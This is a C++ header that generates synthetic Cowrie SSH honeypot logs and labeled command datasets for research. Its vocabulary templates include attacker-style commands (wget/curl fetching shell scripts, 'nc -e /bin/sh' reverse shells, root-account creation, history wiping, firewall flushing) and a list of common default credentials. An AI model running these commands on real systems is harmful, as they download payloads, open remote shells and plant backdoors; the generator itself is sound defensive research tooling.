#pragma once

#include <algorithm>
#include <array>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <random>
#include <set>
#include <string>
#include <vector>

#include <json.hpp>

#include "cowlog/dataset.hpp"
#include "cowlog/errors.hpp"
#include "cowlog/lexer.hpp"
#include "cowlog/schema.hpp"
#include "cowlog/strutil.hpp"
#include "cowlog/timeutil.hpp"

namespace cowlog {

// Synthetic Cowrie corpus generator. Stands in for a real honeynet
// capture: seeded, bit-reproducible, with gold labels produced by the
// rule oracle so every generated command has an auditable answer.

namespace gendetail {

inline uint64_t splitmix64(uint64_t x) {
  x += 0x9e3779b97f4a7c15ull;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ull;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebull;
  return x ^ (x >> 31);
}

// mt19937_64 output is pinned by the standard; the distribution helpers
// here are fixed arithmetic, so streams are identical on every platform.
class Rng {
public:
  explicit Rng(uint64_t seed) : eng_(seed) {}

  uint64_t next() { return eng_(); }

  uint64_t below(uint64_t n) { return n == 0 ? 0 : next() % n; }

  int64_t range(int64_t lo, int64_t hi) {  // inclusive bounds
    if (hi <= lo) return lo;
    return lo + static_cast<int64_t>(below(static_cast<uint64_t>(hi - lo + 1)));
  }

  double unit() { return static_cast<double>(next() >> 11) * 0x1.0p-53; }

  bool chance(double p) { return unit() < p; }

  // Index into a positive weight vector.
  size_t weighted(const std::vector<double>& weights) {
    double total = 0.0;
    for (double w : weights) total += w;
    double x = unit() * total;
    for (size_t i = 0; i < weights.size(); ++i) {
      x -= weights[i];
      if (x < 0.0) return i;
    }
    return weights.size() - 1;
  }

  template <typename T>
  const T& pick(const std::vector<T>& v) {
    return v[below(v.size())];
  }

private:
  std::mt19937_64 eng_;
};

}  // namespace gendetail

struct UtilitySpec {
  std::string name;
  double weight = 1.0;
  std::vector<std::string> arg_templates;  // "" means bare invocation
};

struct CredentialSpec {
  std::string username;
  std::string password;
  double weight = 1.0;
};

struct TimeModel {
  int64_t start_us = 1556668800000000;  // 2019-05-01T00:00:00Z
  int64_t gap_min_s = 1;                // inter-event gap, bounded uniform
  int64_t gap_max_s = 90;
};

struct GeneratorConfig {
  uint64_t seed = 1;
  size_t n_sessions = 2000;
  size_t n_days = 29;  // one output file per simulated day
  std::vector<UtilitySpec> utility_vocab;
  std::vector<std::string> wrapper_prefixes = {"sudo", "nohup", "busybox",
                                               "time", "exec"};
  std::vector<CredentialSpec> credential_pool;
  // weights over {";", "&&", "||", "|"}
  std::array<double, 4> separator_weights = {0.35, 0.40, 0.05, 0.20};
  TimeModel time_model;
  double wrapper_prob = 0.10;        // lines opening with a wrapper prefix
  double multi_segment_prob = 0.15;  // lines with more than one segment
  double abs_path_prob = 0.15;       // head spelled with a path
  double assignment_prob = 0.05;     // leading VAR=value
  double login_success_prob = 0.85;
  int max_failed_logins = 3;
  int min_commands = 1;
  int max_commands = 10;
  std::vector<std::string> sensors = {"srv04", "srv07", "edge-nl1"};
};

struct LabeledCommand {
  std::string context;
  std::string gold_answer;  // space-joined utilities, segment order
  std::string session;
  int64_t timestamp_us = 0;
};

struct SplitSizes {
  size_t train = 32801;
  size_t validation = 3645;
  size_t test = 999;
};

struct DatasetSplit {
  std::vector<LabeledCommand> train;
  std::vector<LabeledCommand> validation;
  std::vector<LabeledCommand> test;
};

inline std::vector<CredentialSpec> default_credential_pool() {
  return {
      {"root", "123456", 20},     {"root", "root", 14},
      {"admin", "admin", 12},     {"root", "password", 9},
      {"root", "12345678", 7},    {"pi", "raspberry", 6},
      {"admin", "1234", 5},       {"root", "toor", 5},
      {"user", "user", 4},        {"ubnt", "ubnt", 4},
      {"test", "test", 3},        {"root", "admin123", 3},
      {"oracle", "oracle", 2},    {"git", "git", 2},
      {"postgres", "postgres", 2},{"root", "qwerty", 2},
      {"guest", "guest", 1},      {"ftp", "ftp", 1},
      {"nagios", "nagios", 1},    {"root", "1qaz2wsx", 1},
  };
}

// ~60 utilities drawn from honeypot-observed tooling, Zipf-ish weights.
inline std::vector<UtilitySpec> default_utility_vocab() {
  std::vector<UtilitySpec> v = {
      {"wget", 0, {"http://{ip}/{file}.sh", "-q http://{ip}/{file}", "http://{host}/{file} -O /tmp/{file}", "-qO- http://{ip}/{path}"}},
      {"cd", 0, {"/tmp", "/var/tmp", "/dev/shm", "/root", "/var/run"}},
      {"chmod", 0, {"+x {file}", "777 /tmp/{file}", "u+x {file}.sh", "755 ./{file}"}},
      {"curl", 0, {"-O http://{ip}/{file}", "-s http://{host}/{path}", "http://{ip}:{port}/{file}.sh -o /tmp/{file}.sh"}},
      {"cat", 0, {"/proc/cpuinfo", "/etc/passwd", "/etc/issue", "{file}.txt", "/proc/mounts"}},
      {"sh", 0, {"{file}.sh", "./{file}.sh", "-x {file}.sh"}},
      {"rm", 0, {"-rf /tmp/{file}", "-f {file}", "-rf /var/tmp/.{word}"}},
      {"echo", 0, {"{word}", "'{word} {word}'", "-n {hex}", "\"{word}\""}},
      {"uname", 0, {"-a", "-m", "-sr", ""}},
      {"busybox", 0, {"wget http://{ip}/{file}", "tftp {ip}", "cat /proc/mounts", "{word}"}},
      {"tftp", 0, {"{ip} -c get {file}.sh", "-g -r {file} {ip}"}},
      {"bash", 0, {"{file}.sh", "-c '{word}'"}},
      {"ls", 0, {"-la /tmp", "/var/run", "-a", ""}},
      {"tar", 0, {"xvf {file}.tgz", "-zxf {file}.tar.gz", "cf {file}.tar /tmp/{word}"}},
      {"ps", 0, {"-ef", "aux", "x"}},
      {"kill", 0, {"-9 {num}", "-TERM {num}"}},
      {"ftpget", 0, {"-u anonymous -p anon {ip} {file} {file}"}},
      {"grep", 0, {"-c ^processor /proc/cpuinfo", "name /proc/cpuinfo", "{word} {file}.log"}},
      {"crontab", 0, {"-l", "-r"}},
      {"free", 0, {"-m", "-h"}},
      {"passwd", 0, {"root", "{word}"}},
      {"head", 0, {"-c 1000 /proc/self/exe", "-n 1 {file}.txt"}},
      {"mv", 0, {"{file} /tmp/{file}", "/tmp/{file}.sh /var/tmp/{file}.sh"}},
      {"cp", 0, {"{file} /tmp/.{file}", "/bin/sh /tmp/{word}"}},
      {"history", 0, {"-c", ""}},
      {"nproc", 0, {""}},
      {"whoami", 0, {""}},
      {"id", 0, {""}},
      {"w", 0, {""}},
      {"lscpu", 0, {"", "-e"}},
      {"df", 0, {"-h", ""}},
      {"top", 0, {"-bn1"}},
      {"nc", 0, {"{ip} {port}", "-e /bin/sh {ip} {port}"}},
      {"python", 0, {"-c '{word}'", "{file}.py"}},
      {"perl", 0, {"-e '{word}'", "{file}.pl"}},
      {"dd", 0, {"if=/proc/self/exe of=/tmp/{file} bs=1024 count=1", "if=/dev/zero of={file} bs=1M count=2"}},
      {"md5sum", 0, {"{file}", "/bin/busybox"}},
      {"openssl", 0, {"enc -d -base64", "dgst -md5 {file}"}},
      {"base64", 0, {"-d {file}.b64", "{file}"}},
      {"ping", 0, {"-c 4 {ip}", "-c1 {host}"}},
      {"ifconfig", 0, {"", "eth0"}},
      {"ip", 0, {"a", "route"}},
      {"netstat", 0, {"-an", "-tulpn"}},
      {"route", 0, {"-n"}},
      {"hostname", 0, {"", "-I"}},
      {"dmesg", 0, {"-T", ""}},
      {"lsmod", 0, {""}},
      {"modprobe", 0, {"{word}"}},
      {"sysctl", 0, {"-n hw.ncpu", "-a"}},
      {"mount", 0, {"", "-o remount,rw /"}},
      {"umount", 0, {"/tmp/{word}"}},
      {"service", 0, {"{word} stop", "iptables stop"}},
      {"systemctl", 0, {"stop {word}", "disable {word}"}},
      {"iptables", 0, {"-F", "-L -n"}},
      {"useradd", 0, {"-m {word}", "-o -u 0 {word}"}},
      {"sleep", 0, {"{num}"}},
      {"which", 0, {"wget", "curl", "perl"}},
      {"find", 0, {"/tmp -name {file}", "/ -perm -4000"}},
      {"scp", 0, {"-t /tmp/{file}"}},
      {"ssh", 0, {"-V"}},
      {"exit", 0, {""}},
      {"yum", 0, {"install -y {word}"}},
      {"apt-get", 0, {"install -y {word}", "update"}},
      {"export", 0, {"PATH=/tmp:$PATH", "HISTFILE=/dev/null"}},
      {"pkill", 0, {"-f {word}", "-9 {word}"}},
      {"wc", 0, {"-l {file}.log"}},
  };
  for (size_t i = 0; i < v.size(); ++i)
    v[i].weight = 1.0 / static_cast<double>(i + 1);  // Zipf-ish
  return v;
}

inline GeneratorConfig default_generator_config() {
  GeneratorConfig cfg;
  cfg.utility_vocab = default_utility_vocab();
  cfg.credential_pool = default_credential_pool();
  return cfg;
}

inline void validate_config(const GeneratorConfig& cfg) {
  if (cfg.utility_vocab.size() < 40)
    throw Error("utility vocabulary must hold at least 40 entries");
  for (const auto& u : cfg.utility_vocab)
    if (u.weight <= 0.0) throw Error("utility weight must be positive: " + u.name);
  for (const auto& c : cfg.credential_pool)
    if (c.weight <= 0.0) throw Error("credential weight must be positive");
  for (double w : cfg.separator_weights)
    if (w <= 0.0) throw Error("separator weights must be positive");
  if (cfg.n_days == 0) throw Error("n_days must be positive");
  if (cfg.credential_pool.empty()) throw Error("credential pool is empty");
  if (cfg.time_model.gap_min_s < 0 ||
      cfg.time_model.gap_max_s < cfg.time_model.gap_min_s)
    throw Error("bad inter-event gap bounds");
}

namespace gendetail {

inline std::string expand_template(std::string_view tmpl, Rng& rng) {
  static const std::vector<std::string> kWords = {
      "update",  "secure", "backup", "watchdog", "sync",  "probe",
      "miner",   "relay",  "agent",  "daemon",   "clean", "scan",
      "payload", "node",   "task",   "kernel"};
  static const std::vector<std::string> kFiles = {
      "m",    "x86",  "mips", "arm7", "bot",  "bins", "update",
      "sshd", "x",    "a",    "run",  "loader", "k",  "env",
      "mirai", "gaf", "sora", "owari"};
  static const std::vector<std::string> kTlds = {"com", "net", "xyz", "top", "ru"};
  static const std::vector<int> kPorts = {80, 8080, 443, 1337, 4444, 8443, 23, 2323};

  std::string out;
  size_t i = 0;
  while (i < tmpl.size()) {
    if (tmpl[i] != '{') {
      out += tmpl[i++];
      continue;
    }
    size_t close = tmpl.find('}', i);
    if (close == std::string_view::npos) {
      out += tmpl[i++];
      continue;
    }
    std::string_view key = tmpl.substr(i + 1, close - i - 1);
    if (key == "ip") {
      out += std::to_string(1 + rng.below(223)) + "." +
             std::to_string(rng.below(256)) + "." +
             std::to_string(rng.below(256)) + "." +
             std::to_string(1 + rng.below(254));
    } else if (key == "host") {
      out += rng.pick(kWords) + std::to_string(rng.below(100)) + "." +
             rng.pick(kTlds);
    } else if (key == "file") {
      std::string f = rng.pick(kFiles);
      if (rng.chance(0.5)) f += std::to_string(rng.below(10000));
      out += f;
    } else if (key == "path") {
      out += rng.pick(kWords) + "/" + rng.pick(kFiles);
    } else if (key == "port") {
      out += std::to_string(kPorts[rng.below(kPorts.size())]);
    } else if (key == "word") {
      out += rng.pick(kWords);
    } else if (key == "num") {
      out += std::to_string(rng.below(10000));
    } else if (key == "hex") {
      const char* digits = "0123456789abcdef";
      for (int k = 0; k < 8; ++k) out += digits[rng.below(16)];
    } else {
      out.append(tmpl.substr(i, close - i + 1));
    }
    i = close + 1;
  }
  return out;
}

inline std::string gen_segment_text(const GeneratorConfig& cfg, Rng& rng) {
  static const std::vector<std::string> kAssignments = {
      "HISTFILE=/dev/null", "LC_ALL=C", "TERM=xterm", "HISTSIZE=0"};
  static const std::vector<std::string> kPathPrefixes = {"/bin/", "/usr/bin/",
                                                         "/usr/sbin/", "./"};
  std::string out;
  if (rng.chance(cfg.assignment_prob)) {
    out += rng.pick(kAssignments);
    out += ' ';
  }
  if (rng.chance(cfg.wrapper_prob) && !cfg.wrapper_prefixes.empty()) {
    out += rng.pick(cfg.wrapper_prefixes);
    out += ' ';
  }
  std::vector<double> weights;
  weights.reserve(cfg.utility_vocab.size());
  for (const auto& u : cfg.utility_vocab) weights.push_back(u.weight);
  const UtilitySpec& util = cfg.utility_vocab[rng.weighted(weights)];
  if (rng.chance(cfg.abs_path_prob))
    out += rng.pick(kPathPrefixes);
  out += util.name;
  if (!util.arg_templates.empty()) {
    std::string args = expand_template(rng.pick(util.arg_templates), rng);
    if (!args.empty()) {
      out += ' ';
      out += args;
    }
  }
  return out;
}

inline std::string gen_command(const GeneratorConfig& cfg, Rng& rng) {
  static const std::vector<std::string> kSeparators = {";", "&&", "||", "|"};
  size_t nseg = 1;
  if (rng.chance(cfg.multi_segment_prob)) nseg = rng.chance(0.3) ? 3 : 2;
  std::string out = gen_segment_text(cfg, rng);
  std::vector<double> sep_weights(cfg.separator_weights.begin(),
                                  cfg.separator_weights.end());
  for (size_t s = 1; s < nseg; ++s) {
    size_t sep = rng.weighted(sep_weights);
    out += (sep == 0) ? "; " : " " + kSeparators[sep] + " ";
    out += gen_segment_text(cfg, rng);
  }
  return out;
}

inline std::string gen_session_id(Rng& rng) {
  const char* digits = "0123456789abcdef";
  std::string id;
  for (int i = 0; i < 8; ++i) id += digits[rng.below(16)];
  return id;
}

inline std::string gen_src_ip(Rng& rng) {
  return std::to_string(1 + rng.below(223)) + "." +
         std::to_string(rng.below(256)) + "." + std::to_string(rng.below(256)) +
         "." + std::to_string(1 + rng.below(254));
}

}  // namespace gendetail

// Events of one synthetic session: connect, zero or more failed logins,
// an optional success, commands (only after a success), close. Fully
// determined by (config, session_index).
inline std::vector<CowrieEvent> generate_session(const GeneratorConfig& cfg,
                                                 size_t session_index) {
  using namespace gendetail;
  validate_config(cfg);
  Rng rng(splitmix64(cfg.seed ^ splitmix64(0x5eed0000ull + session_index)));

  std::vector<CowrieEvent> events;
  const size_t day = session_index % cfg.n_days;
  int64_t ts = cfg.time_model.start_us +
               static_cast<int64_t>(day) * 86400000000ll +
               rng.range(0, 82800) * 1000000ll + rng.range(0, 999999);
  auto advance = [&]() {
    ts += rng.range(cfg.time_model.gap_min_s, cfg.time_model.gap_max_s) *
              1000000ll +
          rng.range(0, 999999);
  };

  const std::string session = gen_session_id(rng);
  const std::string src_ip = gen_src_ip(rng);
  const std::string sensor =
      cfg.sensors.empty() ? "srv" : cfg.sensors[session_index % cfg.sensors.size()];
  const int src_port = static_cast<int>(1024 + rng.below(64511));

  auto base_event = [&](std::string eventid, std::string message) {
    CowrieEvent ev;
    ev.eventid = std::move(eventid);
    ev.timestamp_us = ts;
    ev.session = session;
    ev.src_ip = src_ip;
    ev.sensor = sensor;
    ev.message = std::move(message);
    return ev;
  };

  {
    CowrieEvent ev = base_event(
        "cowrie.session.connect",
        "New connection: " + src_ip + ":" + std::to_string(src_port) +
            " (" + sensor + ":22) [session: " + session + "]");
    ev.extra.emplace("protocol", "ssh");
    ev.extra.emplace("src_port", src_port);
    events.push_back(std::move(ev));
  }

  std::vector<double> cred_weights;
  cred_weights.reserve(cfg.credential_pool.size());
  for (const auto& c : cfg.credential_pool) cred_weights.push_back(c.weight);

  const int failures = static_cast<int>(rng.below(cfg.max_failed_logins + 1));
  for (int i = 0; i < failures; ++i) {
    advance();
    const CredentialSpec& cred = cfg.credential_pool[rng.weighted(cred_weights)];
    CowrieEvent ev = base_event("cowrie.login.failed",
                                "login attempt [" + cred.username + "/" +
                                    cred.password + "] failed");
    ev.username = cred.username;
    ev.password = cred.password;
    events.push_back(std::move(ev));
  }

  const bool success = rng.chance(cfg.login_success_prob);
  if (success) {
    advance();
    const CredentialSpec& cred = cfg.credential_pool[rng.weighted(cred_weights)];
    CowrieEvent ev = base_event("cowrie.login.success",
                                "login attempt [" + cred.username + "/" +
                                    cred.password + "] succeeded");
    ev.username = cred.username;
    ev.password = cred.password;
    events.push_back(std::move(ev));

    const int commands =
        static_cast<int>(rng.range(cfg.min_commands, cfg.max_commands));
    for (int i = 0; i < commands; ++i) {
      advance();
      std::string cmd = gen_command(cfg, rng);
      CowrieEvent cev = base_event("cowrie.command.input", "CMD: " + cmd);
      cev.input = cmd;
      events.push_back(std::move(cev));
    }
  }

  advance();
  {
    int64_t duration = (ts - events.front().timestamp_us) / 1000000;
    CowrieEvent ev = base_event(
        "cowrie.session.closed",
        "Connection lost after " + std::to_string(duration) + " seconds");
    ev.extra.emplace("duration", duration);
    events.push_back(std::move(ev));
  }
  return events;
}

struct CorpusResult {
  std::vector<std::string> event_files;
  std::string labels_file;
  std::string manifest_file;
  size_t n_events = 0;
  std::vector<LabeledCommand> labels;
};

// Writes one JSON-lines file per simulated day plus a labels file and a
// manifest. Gold answers come from the rule oracle on each command.
inline CorpusResult generate_corpus(const GeneratorConfig& cfg,
                                    const std::string& out_dir) {
  namespace fs = std::filesystem;
  validate_config(cfg);
  std::error_code ec;
  fs::create_directories(out_dir, ec);
  if (ec) throw IoError("cannot create directory " + out_dir);

  CorpusResult result;
  std::vector<std::vector<CowrieEvent>> per_day(cfg.n_days);
  for (size_t idx = 0; idx < cfg.n_sessions; ++idx) {
    std::vector<CowrieEvent> events = generate_session(cfg, idx);
    for (CowrieEvent& ev : events) {
      if (ev.kind() == EventKind::CommandInput) {
        LabeledCommand label;
        label.context = *ev.input;
        std::vector<std::string> utils = extract_utilities(label.context);
        for (const auto& u : utils) {
          if (!label.gold_answer.empty()) label.gold_answer += ' ';
          label.gold_answer += u;
        }
        label.session = ev.session;
        label.timestamp_us = ev.timestamp_us;
        result.labels.push_back(std::move(label));
      }
      per_day[idx % cfg.n_days].push_back(std::move(ev));
    }
  }

  for (size_t day = 0; day < cfg.n_days; ++day) {
    auto& events = per_day[day];
    if (events.empty()) continue;
    std::stable_sort(events.begin(), events.end(),
                     [](const CowrieEvent& a, const CowrieEvent& b) {
                       return a.timestamp_us < b.timestamp_us;
                     });
    std::string date =
        format_iso8601_us(cfg.time_model.start_us +
                          static_cast<int64_t>(day) * 86400000000ll)
            .substr(0, 10);
    std::string path = (fs::path(out_dir) / ("cowrie.json." + date)).string();
    std::ofstream out(path, std::ios::trunc | std::ios::binary);
    if (!out) throw IoError("cannot write " + path);
    for (const CowrieEvent& ev : events) out << serialize_event(ev) << '\n';
    if (!out) throw IoError("write failed for " + path);
    result.event_files.push_back(path);
    result.n_events += events.size();
  }

  result.labels_file = (fs::path(out_dir) / "labels.jsonl").string();
  {
    std::ofstream out(result.labels_file, std::ios::trunc | std::ios::binary);
    if (!out) throw IoError("cannot write " + result.labels_file);
    for (const LabeledCommand& label : result.labels) {
      nlohmann::ordered_json j;
      j["context"] = label.context;
      j["answer"] = label.gold_answer;
      out << j.dump() << '\n';
    }
    if (!out) throw IoError("write failed for " + result.labels_file);
  }

  result.manifest_file = (fs::path(out_dir) / "manifest.json").string();
  {
    nlohmann::ordered_json m;
    m["seed"] = cfg.seed;
    m["n_sessions"] = cfg.n_sessions;
    m["n_events"] = result.n_events;
    m["n_commands"] = result.labels.size();
    m["event_files"] = result.event_files;
    m["labels_file"] = result.labels_file;
    std::ofstream out(result.manifest_file, std::ios::trunc | std::ios::binary);
    if (!out) throw IoError("cannot write " + result.manifest_file);
    out << m.dump(2) << '\n';
  }
  return result;
}

// Deduplicates by exact context string (the unique-command convention),
// shuffles with a seeded Fisher-Yates and cuts the requested sizes.
inline DatasetSplit make_split(const std::vector<LabeledCommand>& labels,
                               SplitSizes sizes, uint64_t seed) {
  std::vector<const LabeledCommand*> unique;
  {
    std::set<std::string_view> seen;
    for (const LabeledCommand& label : labels)
      if (seen.insert(label.context).second) unique.push_back(&label);
  }
  const size_t need = sizes.train + sizes.validation + sizes.test;
  if (unique.size() < need)
    throw InsufficientData("need " + std::to_string(need) +
                           " unique contexts, have " +
                           std::to_string(unique.size()));

  gendetail::Rng rng(gendetail::splitmix64(seed ^ 0x5b117ull));
  for (size_t i = unique.size(); i > 1; --i) {
    size_t j = rng.below(i);
    std::swap(unique[i - 1], unique[j]);
  }

  DatasetSplit split;
  size_t pos = 0;
  for (size_t i = 0; i < sizes.train; ++i) split.train.push_back(*unique[pos++]);
  for (size_t i = 0; i < sizes.validation; ++i)
    split.validation.push_back(*unique[pos++]);
  for (size_t i = 0; i < sizes.test; ++i) split.test.push_back(*unique[pos++]);
  return split;
}

inline std::vector<QaExample> to_examples(const std::vector<LabeledCommand>& labels) {
  std::vector<QaExample> out;
  out.reserve(labels.size());
  for (const auto& label : labels)
    out.push_back(QaExample{label.context, label.gold_answer, ""});
  return out;
}

}  // namespace cowlog
